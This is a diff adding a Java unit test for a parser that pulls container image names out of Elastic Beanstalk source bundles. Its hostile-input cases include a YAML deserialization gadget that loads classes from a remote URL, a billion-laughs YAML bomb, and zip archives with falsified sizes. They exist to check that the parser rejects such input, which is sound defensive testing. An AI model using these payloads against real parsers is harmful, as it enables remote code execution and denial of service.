@@ -1,0 +1,411 @@
+package dev.beanstalkmigrator.reconcile;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertInstanceOf;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.beanstalkmigrator.reconcile.BundleLookup.Found;
+import dev.beanstalkmigrator.reconcile.BundleLookup.NotFound;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.time.Duration;
+import java.util.Arrays;
+import java.util.HashSet;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.Random;
+import java.util.Set;
+import java.util.stream.Stream;
+import java.util.zip.CRC32;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class SourceBundleImageTest {
+
+    static final String V1 = """
+            {"AWSEBDockerrunVersion": "1",
+             "Image": {"Name": "repo/app:1.2", "Update": "true"},
+             "Ports": [{"ContainerPort": 8080}]}
+            """;
+    static final String V1_NUMERIC = """
+            {"AWSEBDockerrunVersion": 1, "Image": {"Name": "repo/app:1.3"}}
+            """;
+    static final String V1_DOCKERFILE = """
+            {"AWSEBDockerrunVersion": "1", "Ports": [{"ContainerPort": 8080}]}
+            """;
+    static final String V2 = """
+            {"AWSEBDockerrunVersion": 2,
+             "containerDefinitions": [
+               {"name": "nginx", "image": "nginx:1.27", "essential": true},
+               {"name": "web", "image": "123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "memory": 256}
+             ]}
+            """;
+    static final String V2_STRING = """
+            {"AWSEBDockerrunVersion": "2",
+             "containerDefinitions": [{"name": "web", "image": "repo/web:s"}]}
+            """;
+    static final String V2_OTHERS = """
+            {"AWSEBDockerrunVersion": 2,
+             "containerDefinitions": [{"name": "app", "image": "a:1"}, {"name": "nginx", "image": "n:1"}]}
+            """;
+    static final String V2_NO_IMAGE = """
+            {"AWSEBDockerrunVersion": 2, "containerDefinitions": [{"name": "web", "memory": 128}]}
+            """;
+    static final String V3 = """
+            {"AWSEBDockerrunVersion": 3, "containerDefinitions": []}
+            """;
+    static final String COMPOSE = """
+            services:
+              web:
+                image: repo/web:compose
+                ports: ["80:8080"]
+                environment:
+                  DB_PASSWORD: hunter2
+              worker:
+                build: ./worker
+            """;
+    static final String COMPOSE_OTHER = """
+            services:
+              api:
+                image: repo/api:9
+            """;
+    static final String COMPOSE_ANCHORS = """
+            x-base: &base
+              image: repo/web:anchored
+              restart: always
+            services:
+              web:
+                <<: *base
+                ports: ["80:80"]
+            """;
+    static final String COMPOSE_INTERPOLATED = """
+            services:
+              web:
+                image: repo/web:${TAG}
+            """;
+    static final String COMPOSE_BROKEN = """
+            services:
+              web:
+                image: repo/web:1
+                environment:
+                  DB_PASSWORD: hunter2
+                 bad: indentation: here
+            """;
+    static final String COMPOSE_GLOBAL_TAG = """
+            services: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+            """;
+
+    record Expect(String image, String file, String[] reasonParts) {
+        static Expect found(String image, String file) {
+            return new Expect(image, file, null);
+        }
+
+        static Expect notFound(String... reasonParts) {
+            return new Expect(null, null, reasonParts);
+        }
+    }
+
+    static Stream<Arguments> cases() {
+        return Stream.of(
+                // Dockerrun.aws.json v1: one container, any name takes its image
+                c("v1 zipped", zip("Dockerrun.aws.json", V1), "whatever",
+                        Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
+                c("v1 numeric version", zip("Dockerrun.aws.json", V1_NUMERIC), "web",
+                        Expect.found("repo/app:1.3", "Dockerrun.aws.json")),
+                c("v1 plain", bytes(V1), "web", Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
+                c("v1 plain with BOM", bytes("\uFEFF" + V1), "web",
+                        Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
+                c("v1 without Image is built from a Dockerfile", zip("Dockerrun.aws.json", V1_DOCKERFILE), "web",
+                        Expect.notFound("Dockerrun.aws.json v1 has no Image.Name", "Dockerfile")),
+
+                // v2: picks the container by name
+                c("v2 numeric version picks web", zip("Dockerrun.aws.json", V2), "web",
+                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "Dockerrun.aws.json")),
+                c("v2 picks nginx", zip("Dockerrun.aws.json", V2), "nginx",
+                        Expect.found("nginx:1.27", "Dockerrun.aws.json")),
+                c("v2 string version", zip("Dockerrun.aws.json", V2_STRING), "web",
+                        Expect.found("repo/web:s", "Dockerrun.aws.json")),
+                c("v2 plain", bytes(V2), "web",
+                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "Dockerrun.aws.json")),
+                c("v2 missing container", zip("Dockerrun.aws.json", V2_OTHERS), "web",
+                        Expect.notFound("Dockerrun.aws.json v2 has no container named 'web' (it has: app, nginx)")),
+                c("v2 container without image", zip("Dockerrun.aws.json", V2_NO_IMAGE), "web",
+                        Expect.notFound("container 'web' has no image")),
+                c("unsupported version", zip("Dockerrun.aws.json", V3), "web",
+                        Expect.notFound("unsupported AWSEBDockerrunVersion '3'")),
+                c("invalid JSON", zip("Dockerrun.aws.json", "{\"AWSEBDockerrunVersion\": 2, \"containerDefinitions\": ["),
+                        "web", Expect.notFound("Dockerrun.aws.json is not valid JSON")),
+                c("invalid JSON plain", bytes("{\"AWSEBDockerrunVersion\": 2,, }"), "web",
+                        Expect.notFound("not valid JSON (line 1")),
+                c("trailing garbage after JSON", zip("Dockerrun.aws.json", V1 + " {}"), "web",
+                        Expect.notFound("is not valid JSON")),
+
+                // docker-compose
+                c("compose .yml zipped", zip("docker-compose.yml", COMPOSE), "web",
+                        Expect.found("repo/web:compose", "docker-compose.yml")),
+                c("compose .yaml zipped", zip("docker-compose.yaml", COMPOSE), "web",
+                        Expect.found("repo/web:compose", "docker-compose.yaml")),
+                c("compose plain", bytes(COMPOSE), "web", Expect.found("repo/web:compose", "docker-compose.yml")),
+                c("compose written as JSON, plain", bytes("{\"services\": {\"web\": {\"image\": \"repo/web:j\"}}}"),
+                        "web", Expect.found("repo/web:j", "docker-compose.yml")),
+                c("compose service with only build", zip("docker-compose.yml", COMPOSE), "worker",
+                        Expect.notFound("service 'worker' has no image", "build:")),
+                c("compose missing service", zip("docker-compose.yml", COMPOSE_OTHER), "web",
+                        Expect.notFound("docker-compose.yml has no service named 'web' (it has: api)")),
+                c("compose anchors and merge keys", zip("docker-compose.yml", COMPOSE_ANCHORS), "web",
+                        Expect.found("repo/web:anchored", "docker-compose.yml")),
+                c("compose variable substitution", zip("docker-compose.yml", COMPOSE_INTERPOLATED), "web",
+                        Expect.notFound("uses variable substitution", "image template")),
+                c("compose without services", bytes("version: '3'\nnetworks: {}\n"), "web",
+                        Expect.notFound("has no services mapping")),
+                c("compose .yml wins over .yaml",
+                        zip(entries("docker-compose.yaml", COMPOSE_OTHER, "docker-compose.yml", COMPOSE)), "web",
+                        Expect.found("repo/web:compose", "docker-compose.yml")),
+
+                // layout
+                c("nested single folder", zip(entries("myapp/", "", "myapp/Dockerrun.aws.json", V1,
+                        "myapp/src/main.py", "print(1)")), "web", Expect.found("repo/app:1.2", "myapp/Dockerrun.aws.json")),
+                c("__MACOSX noise", zip(entries("myapp/Dockerrun.aws.json", V2,
+                        "__MACOSX/myapp/._Dockerrun.aws.json", "\u0000\u0005junk", "myapp/.DS_Store", "x",
+                        "__MACOSX/._myapp", "junk")), "web",
+                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "myapp/Dockerrun.aws.json")),
+                c("two top-level folders", zip(entries("a/Dockerrun.aws.json", V1, "b/readme.txt", "hi")), "web",
+                        Expect.notFound("no Dockerrun.aws.json, docker-compose.yml or docker-compose.yaml at the root")),
+                c("root file wins over nested folder", zip(entries("Dockerrun.aws.json", V1_NUMERIC,
+                        "sub/Dockerrun.aws.json", V1)), "web", Expect.found("repo/app:1.3", "Dockerrun.aws.json")),
+                c("Dockerfile only", zip(entries("Dockerfile", "FROM scratch", "app.py", "")), "web",
+                        Expect.notFound("no Dockerrun.aws.json", "Dockerfile")),
+                c("windows separators", zip(entries("myapp\\Dockerrun.aws.json", V1)), "web",
+                        Expect.found("repo/app:1.2", "myapp/Dockerrun.aws.json")),
+                c("stored (uncompressed) entry", storedZip("Dockerrun.aws.json", V2), "nginx",
+                        Expect.found("nginx:1.27", "Dockerrun.aws.json")),
+
+                // both files: Elastic Beanstalk runs docker-compose.yml
+                c("both files present, compose wins", zip(entries("Dockerrun.aws.json", V1,
+                        "docker-compose.yml", COMPOSE)), "web", Expect.found("repo/web:compose", "docker-compose.yml")),
+                c("both files present, compose lacks the service", zip(entries("Dockerrun.aws.json", V1,
+                        "docker-compose.yml", COMPOSE_OTHER)), "web",
+                        Expect.notFound("docker-compose.yml has no service named 'web'",
+                                "Elastic Beanstalk uses docker-compose.yml over Dockerrun.aws.json")),
+                c("both files present in a folder", zip(entries("app/Dockerrun.aws.json", V1,
+                        "app/docker-compose.yaml", COMPOSE)), "web",
+                        Expect.found("repo/web:compose", "app/docker-compose.yaml")),
+                c("duplicate candidate name", zip(entries("Dockerrun.aws.json", V1), entries("Dockerrun.aws.json", V2)),
+                        "web", Expect.notFound("holds 'Dockerrun.aws.json' more than once")),
+
+                // junk and hostile input
+                c("empty bundle", new byte[0], "web", Expect.notFound("empty")),
+                c("blank bundle", bytes(" \n\t"), "web", Expect.notFound("blank")),
+                c("junk bytes", junk(4096, 1), "web", Expect.notFound("neither a zip nor UTF-8 text")),
+                c("zip magic then junk", concat(new byte[] {'P', 'K', 3, 4}, junk(500, 2)), "web",
+                        Expect.notFound("zip that cannot be read")),
+                c("truncated zip", truncate(zip("Dockerrun.aws.json", V1), 40), "web",
+                        Expect.notFound("zip that cannot be read")),
+                c("empty zip", zip(new LinkedHashMap<>()), "web", Expect.notFound("empty zip")),
+                c("plain text", bytes("hello world"), "web", Expect.notFound("not a YAML mapping")),
+                c("YAML global tag", bytes(COMPOSE_GLOBAL_TAG), "web", Expect.notFound("docker-compose.yml")),
+                c("YAML local tag", bytes("services: !custom {web: {image: x}}\n"), "web",
+                        Expect.notFound("is not valid YAML")),
+                c("YAML alias bomb", bytes(billionLaughs()), "web", Expect.notFound("could not be read as YAML")),
+                c("entry over the cap", zip("Dockerrun.aws.json", V1 + " ".repeat(SourceBundleImage.MAX_ENTRY_BYTES)),
+                        "web", Expect.notFound("Dockerrun.aws.json is larger than 5242880 bytes")),
+                c("entry over the cap with a lying size", lieAboutSizes(zip("docker-compose.yml",
+                        COMPOSE + "#".repeat(SourceBundleImage.MAX_ENTRY_BYTES))), "web",
+                        Expect.notFound("docker-compose.yml is larger than 5242880 bytes")),
+                c("plain bundle over the cap", bytes(V1 + " ".repeat(SourceBundleImage.MAX_ENTRY_BYTES)), "web",
+                        Expect.notFound("larger than 5242880 bytes")),
+                c("too many entries", manyEntries(SourceBundleImage.MAX_ENTRIES + 1), "web",
+                        Expect.notFound("more than 10000 entries")),
+                c("ZIP64 directory with too many entries", manyEntries(70_000), "web",
+                        Expect.notFound("more than 10000 entries")));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void finds(String name, byte[] bundle, String container, Expect expect) {
+        BundleLookup result = assertTimeoutPreemptively(Duration.ofSeconds(10),
+                () -> SourceBundleImage.find(bundle, container));
+        if (expect.reasonParts() == null) {
+            assertEquals(new Found(expect.image(), expect.file()), result);
+        } else {
+            NotFound notFound = assertInstanceOf(NotFound.class, result, () -> "got " + result);
+            for (String part : expect.reasonParts()) {
+                assertTrue(notFound.reason().contains(part),
+                        () -> "reason '" + notFound.reason() + "' should contain '" + part + "'");
+            }
+        }
+    }
+
+    @Test
+    void aHugeUnrelatedEntryIsNeverInflated() {
+        byte[] bundle = zip(entries("Dockerrun.aws.json", V1), Map.of("assets/huge.bin",
+                new String(new char[64 * 1024 * 1024])));
+        BundleLookup result = assertTimeoutPreemptively(Duration.ofSeconds(10),
+                () -> SourceBundleImage.find(bundle, "web"));
+        assertEquals(new Found("repo/app:1.2", "Dockerrun.aws.json"), result);
+    }
+
+    @Test
+    void reasonsNeverQuoteFileContent() {
+        BundleLookup result = SourceBundleImage.find(zip("docker-compose.yml", COMPOSE_BROKEN), "web");
+        NotFound notFound = assertInstanceOf(NotFound.class, result);
+        assertTrue(notFound.reason().contains("is not valid YAML"), notFound.reason());
+        assertFalse(notFound.reason().contains("hunter2"), notFound.reason());
+    }
+
+    @Test
+    void randomJunkNeverThrows() {
+        Random random = new Random(42);
+        byte[] valid = zip(entries("Dockerrun.aws.json", V2, "docker-compose.yml", COMPOSE));
+        for (int i = 0; i < 2000; i++) {
+            byte[] mutated = valid.clone();
+            for (int j = 0; j < 1 + random.nextInt(8); j++) {
+                mutated[random.nextInt(mutated.length)] = (byte) random.nextInt(256);
+            }
+            byte[] bundle = random.nextInt(4) == 0 ? truncate(mutated, random.nextInt(mutated.length)) : mutated;
+            assertInstanceOf(BundleLookup.class, SourceBundleImage.find(bundle, "web"));
+        }
+    }
+
+    // ---- builders -----------------------------------------------------------------------------------
+
+    static Arguments c(String name, byte[] bundle, String container, Expect expect) {
+        return Arguments.of(name, bundle, container, expect);
+    }
+
+    static byte[] bytes(String text) {
+        return text.getBytes(UTF_8);
+    }
+
+    static Map<String, String> entries(String... namesAndContents) {
+        Map<String, String> map = new LinkedHashMap<>();
+        for (int i = 0; i < namesAndContents.length; i += 2) {
+            map.put(namesAndContents[i], namesAndContents[i + 1]);
+        }
+        return map;
+    }
+
+    static byte[] zip(String name, String content) {
+        return zip(entries(name, content));
+    }
+
+    @SafeVarargs
+    static byte[] zip(Map<String, String>... parts) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        // ZipOutputStream refuses duplicate names, so a duplicate is written under another name, then patched.
+        Set<String> seen = new HashSet<>();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            for (Map<String, String> part : parts) {
+                for (Map.Entry<String, String> e : part.entrySet()) {
+                    String name = seen.add(e.getKey()) ? e.getKey() : "Dockerrun.aws.jsoX";
+                    zip.putNextEntry(new ZipEntry(name));
+                    zip.write(e.getValue().getBytes(UTF_8));
+                    zip.closeEntry();
+                }
+            }
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return replaceAll(out.toByteArray(), bytes("Dockerrun.aws.jsoX"), bytes("Dockerrun.aws.json"));
+    }
+
+    static byte[] storedZip(String name, String content) {
+        byte[] data = bytes(content);
+        CRC32 crc = new CRC32();
+        crc.update(data);
+        ZipEntry entry = new ZipEntry(name);
+        entry.setMethod(ZipEntry.STORED);
+        entry.setSize(data.length);
+        entry.setCompressedSize(data.length);
+        entry.setCrc(crc.getValue());
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            zip.putNextEntry(entry);
+            zip.write(data);
+            zip.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    static byte[] manyEntries(int count) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            zip.setLevel(0);
+            zip.putNextEntry(new ZipEntry("Dockerrun.aws.json"));
+            zip.write(bytes(V1));
+            zip.closeEntry();
+            for (int i = 1; i < count; i++) {
+                zip.putNextEntry(new ZipEntry("f" + i));
+                zip.closeEntry();
+            }
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /** Sets every central directory entry's uncompressed size to 10 bytes, as a zip bomb would. */
+    static byte[] lieAboutSizes(byte[] zip) {
+        byte[] out = zip.clone();
+        for (int p = 0; p + 46 <= out.length; p++) {
+            if (out[p] == 'P' && out[p + 1] == 'K' && out[p + 2] == 1 && out[p + 3] == 2) {
+                out[p + 24] = 10;
+                out[p + 25] = 0;
+                out[p + 26] = 0;
+                out[p + 27] = 0;
+            }
+        }
+        return out;
+    }
+
+    static String billionLaughs() {
+        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (char c = 'b'; c <= 'i'; c++) {
+            char prev = (char) (c - 1);
+            yaml.append(c).append(": &").append(c).append(" [");
+            for (int i = 0; i < 9; i++) {
+                yaml.append(i == 0 ? "" : ",").append('*').append(prev);
+            }
+            yaml.append("]\n");
+        }
+        return yaml.append("services: {web: {image: *i}}\n").toString();
+    }
+
+    static byte[] junk(int length, long seed) {
+        byte[] b = new byte[length];
+        new Random(seed).nextBytes(b);
+        b[0] = (byte) 0xC3;
+        b[1] = 0x28;
+        return b;
+    }
+
+    static byte[] concat(byte[] a, byte[] b) {
+        byte[] out = Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, out, a.length, b.length);
+        return out;
+    }
+
+    static byte[] truncate(byte[] b, int length) {
+        return Arrays.copyOf(b, length);
+    }
+
+    static byte[] replaceAll(byte[] haystack, byte[] from, byte[] to) {
+        byte[] out = haystack.clone();
+        for (int p = 0; p + from.length <= out.length; p++) {
+            if (Arrays.equals(out, p, p + from.length, from, 0, from.length)) {
+                System.arraycopy(to, 0, out, p, to.length);
+            }
+        }
+        return out;
+    }
+}
